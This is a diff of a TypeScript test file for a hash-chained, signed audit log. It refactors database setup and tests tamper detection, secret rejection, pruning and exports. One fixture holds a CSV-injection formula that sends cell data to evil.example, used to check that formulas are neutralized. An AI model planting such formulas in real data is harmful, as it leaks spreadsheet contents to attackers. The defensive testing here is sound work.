@@ -2,11 +2,10 @@ import { createHash } from 'node:crypto';
 import { Readable, Writable } from 'node:stream';
 import { pipeline } from 'node:stream/promises';
 import { canonicalJson } from '@bulwark/protocol';
-import { afterEach, beforeEach, describe, expect, it } from 'vitest';
-import type { Database } from '../db/database.js';
+import { describe, expect, it } from 'vitest';
 import { BadRequestError } from '../errors.js';
-import { manualClock, openAudit } from '../test-support/audit.js';
-import { type TestDatabase, testDatabases } from '../test-support/databases.js';
+import { countEvents, manualClock, openAudit, rewriteChain } from '../test-support/audit.js';
+import { freshDatabasePerTest, type TestDatabase, testDatabases } from '../test-support/databases.js';
 import { GENESIS_HASH } from './audit.chain.js';
 import { AuditDetailsRejectedError } from './audit.guard.js';
 import { AuditUnavailableError } from './audit.service.js';
@@ -38,21 +37,10 @@ async function collect(chunks: AsyncIterable<string>): Promise<string> {
 }
 
 describe.each(testDatabases())('audit log on $dialect', (target: TestDatabase) => {
-  let database: Database;
-  let drop: () => Promise<void>;
-
-  beforeEach(async () => {
-    const created = await target.create();
-    database = created.open();
-    drop = created.drop;
-  });
-  afterEach(async () => {
-    await database.close().catch(() => {});
-    await drop();
-  });
+  const database = freshDatabasePerTest(target);
 
   it('chains each organization separately, with contiguous sequence numbers under concurrent appends', async () => {
-    const { audit, db } = await openAudit(database);
+    const { audit, db } = await openAudit(database());
     const refs = await Promise.all(
       Array.from({ length: 300 }, (_, n) => audit.record(event(['org_a', 'org_b', null][n % 3]!, n))),
     );
@@ -73,7 +61,7 @@ describe.each(testDatabases())('audit log on $dialect', (target: TestDatabase) =
   });
 
   it('acknowledges an event only once it is committed', async () => {
-    const { audit, db } = await openAudit(database);
+    const { audit, db } = await openAudit(database());
     const ref = await audit.record(event('org_a', 1));
     // Read back on the same database right after the promise resolved: the row is there.
     const row = await db.selectFrom('audit_events').selectAll().where('id', '=', ref.id).executeTakeFirst();
@@ -88,14 +76,14 @@ describe.each(testDatabases())('audit log on $dialect', (target: TestDatabase) =
   });
 
   it('fails closed: when the event cannot be stored the caller gets an error, not a silent success', async () => {
-    const { audit } = await openAudit(database);
+    const { audit } = await openAudit(database());
     await audit.record(event('org_a', 1));
-    await database.close();
+    await database().close();
     await expect(audit.record(event('org_a', 2))).rejects.toBeInstanceOf(AuditUnavailableError);
   });
 
   it('refuses details that hold a secret and writes nothing', async () => {
-    const { audit, db } = await openAudit(database);
+    const { audit, db } = await openAudit(database());
     const attempts: Array<AuditInput['details']> = [
       { password: 'hunter2hunter2' },
       { apiKey: 'whatever' },
@@ -127,16 +115,12 @@ describe.each(testDatabases())('audit log on $dialect', (target: TestDatabase) =
         },
       }),
     );
-    const count = await db
-      .selectFrom('audit_events')
-      .select((eb) => eb.fn.countAll().as('n'))
-      .executeTakeFirstOrThrow();
-    expect(Number(count.n)).toBe(1);
+    expect(await countEvents(db)).toBe(1);
     await audit.close();
   });
 
   it('signs a checkpoint every N events and at close, and verification checks each', async () => {
-    const { audit, store } = await openAudit(database, { checkpointEvery: 10 });
+    const { audit, store } = await openAudit(database(), { checkpointEvery: 10 });
     for (let n = 1; n <= 25; n++) {
       await audit.record(event('org_a', n));
       if (n % 10 === 0) await audit.settled();
@@ -154,7 +138,7 @@ describe.each(testDatabases())('audit log on $dialect', (target: TestDatabase) =
 
   describe('tamper detection (the attacker can write the database but holds neither key)', () => {
     async function seeded() {
-      const harness = await openAudit(database, { checkpointEvery: 5 });
+      const harness = await openAudit(database(), { checkpointEvery: 5 });
       for (let n = 0; n < 12; n++) {
         await harness.audit.record(event('org_a', n));
         await harness.audit.settled();
@@ -196,31 +180,10 @@ describe.each(testDatabases())('audit log on $dialect', (target: TestDatabase) =
 
     it('a chain edited and fully re-hashed is caught by the signed checkpoints', async () => {
       const { audit, db } = await seeded();
-      // Attack: edit event 2, then recompute every later hash so the chain is self-consistent again.
-      const { hashOfRow } = await import('./audit.chain.js');
-      const rows = await db
-        .selectFrom('audit_events')
-        .selectAll()
-        .where('chain_id', '=', 'org_a')
-        .orderBy('seq')
-        .execute();
-      let prev = rows[0]!.hash;
-      for (const row of rows.slice(1)) {
-        const edited = {
-          ...row,
-          prev_hash: prev,
-          outcome: row.seq === 2 ? 'success' : row.outcome,
-          details: row.seq === 2 ? '{"n":99}' : row.details,
-        };
-        const hash = hashOfRow(edited);
-        await db
-          .updateTable('audit_events')
-          .set({ prev_hash: prev, hash, details: edited.details, outcome: edited.outcome })
-          .where('id', '=', row.id)
-          .execute();
-        prev = hash;
-      }
-      await db.updateTable('audit_chain_heads').set({ hash: prev }).where('chain_id', '=', 'org_a').execute();
+      // Attack: edit event 2, then recompute every hash so the chain is self-consistent again.
+      await rewriteChain(db, 'org_a', (row) =>
+        row.seq === 2 ? { outcome: 'success', details: '{"n":99}' } : {},
+      );
       const result = await audit.verify('org_a');
       expect(result.broken).toMatchObject({ seq: 5, reason: expect.stringContaining('signed checkpoint') });
     });
@@ -259,7 +222,7 @@ describe.each(testDatabases())('audit log on $dialect', (target: TestDatabase) =
 
   it('queries with filters and cursor pagination, newest first, without gaps or repeats', async () => {
     const clock = manualClock();
-    const { audit } = await openAudit(database, { clock: clock.now });
+    const { audit } = await openAudit(database(), { clock: clock.now });
     for (let n = 0; n < 40; n++) {
       clock.advance(1000);
       await audit.record(event('org_a', n));
@@ -297,7 +260,7 @@ describe.each(testDatabases())('audit log on $dialect', (target: TestDatabase) =
   });
 
   it('exports NDJSON that a third party can verify with SHA-256 and canonical JSON alone, and audits the export', async () => {
-    const { audit } = await openAudit(database);
+    const { audit } = await openAudit(database());
     // More than one export page (1000 rows) to prove the export streams across pages.
     for (let batch = 0; batch < 5; batch++) {
       await Promise.all(Array.from({ length: 500 }, (_, n) => audit.record(event('org_a', batch * 500 + n))));
@@ -330,7 +293,7 @@ describe.each(testDatabases())('audit log on $dialect', (target: TestDatabase) =
   });
 
   it('exports CSV with every chain field and neutralizes spreadsheet formulas', async () => {
-    const { audit } = await openAudit(database);
+    const { audit } = await openAudit(database());
     await audit.record(
       event('org_a', 1, {
         actor: { type: 'user', id: 'usr_x', display: '=HYPERLINK("http://evil.example/?"&A1,"click")' },
@@ -368,7 +331,7 @@ describe.each(testDatabases())('audit log on $dialect', (target: TestDatabase) =
 
     it('prunes old events behind a signed anchor, and the rest still verifies', async () => {
       const clock = manualClock();
-      const { audit, store, db } = await openAudit(database, {
+      const { audit, store, db } = await openAudit(database(), {
         retentionDays: 30,
         checkpointEvery: 4,
         clock: clock.now,
@@ -412,7 +375,7 @@ describe.each(testDatabases())('audit log on $dialect', (target: TestDatabase) =
 
     it('an attacker cannot hide deletions behind a forged anchor', async () => {
       const clock = manualClock();
-      const { audit, db } = await openAudit(database, { retentionDays: 30, clock: clock.now });
+      const { audit, db } = await openAudit(database(), { retentionDays: 30, clock: clock.now });
       for (let n = 0; n < 6; n++) await audit.record(event('org_a', n));
       clock.advance(40 * DAY);
       await audit.record(event('org_a', 6));
@@ -439,18 +402,14 @@ describe.each(testDatabases())('audit log on $dialect', (target: TestDatabase) =
 
     it('never prunes a chain that does not verify: that would destroy the evidence', async () => {
       const clock = manualClock();
-      const { audit, db } = await openAudit(database, { retentionDays: 30, clock: clock.now });
+      const { audit, db } = await openAudit(database(), { retentionDays: 30, clock: clock.now });
       for (let n = 0; n < 5; n++) await audit.record(event('org_a', n));
       await audit.flush();
       await db.updateTable('audit_events').set({ action: 'audit.exported' }).where('seq', '=', 2).execute();
       clock.advance(60 * DAY);
       const [result] = await audit.prune();
       expect(result).toMatchObject({ deleted: 0, skipped: expect.stringContaining('edited') });
-      const count = await db
-        .selectFrom('audit_events')
-        .select((eb) => eb.fn.countAll().as('n'))
-        .executeTakeFirstOrThrow();
-      expect(Number(count.n)).toBe(5);
+      expect(await countEvents(db)).toBe(5);
       await audit.close();
     });
   });
